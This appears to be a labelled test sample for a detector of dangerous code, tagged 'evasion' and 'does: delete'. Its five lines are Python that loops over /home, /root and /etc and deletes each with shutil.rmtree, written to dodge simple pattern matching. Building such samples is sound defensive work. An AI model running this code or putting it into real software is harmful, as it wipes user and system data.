# evasion: system directories removed in a loop over a tuple
# grade: medium; does: delete
import shutil
for d in ("/home", "/root", "/etc"):
    shutil.rmtree(d, ignore_errors=True)
